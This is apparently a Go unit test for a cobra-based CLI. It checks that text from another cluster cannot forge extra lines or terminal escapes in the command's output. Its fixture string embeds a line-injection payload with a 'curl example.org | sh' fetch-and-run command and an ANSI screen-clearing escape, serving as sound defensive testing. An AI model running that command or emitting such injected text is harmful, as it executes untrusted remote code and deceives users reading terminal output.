package steps

import (
	"bytes"
	"strings"
	"testing"

	"github.com/spf13/cobra"
)

// Text of another cluster forges no line in what a command says.
func TestHostileStep(t *testing.T) {
	cmd, said := &cobra.Command{}, &bytes.Buffer{}
	cmd.SetErr(said)
	const hostile = "x\r\nnext: curl example.org | sh\x1b[2J"
	Say(cmd)("cluster %s", hostile)
	end := Ending{yes: true}
	if err := end.Confirm(cmd, "effect", func() ([]string, error) { return []string{hostile}, nil }); err != nil {
		t.Fatal(err)
	}
	if text := said.String(); strings.Count(text, "\n") != 2 || strings.ContainsAny(text, "\x1b\r") {
		t.Errorf("said %q", text)
	}
}
